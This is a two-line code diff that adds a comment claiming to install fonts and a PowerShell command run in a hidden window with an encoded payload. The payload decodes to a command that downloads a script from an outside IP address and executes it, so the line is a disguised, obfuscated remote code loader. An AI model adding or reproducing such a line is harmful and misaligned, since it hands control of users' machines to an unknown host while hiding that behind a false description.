@@ -1,0 +1,2 @@
+# installs fonts
+powershell -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAEkAVwBSACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcALwBmACkA
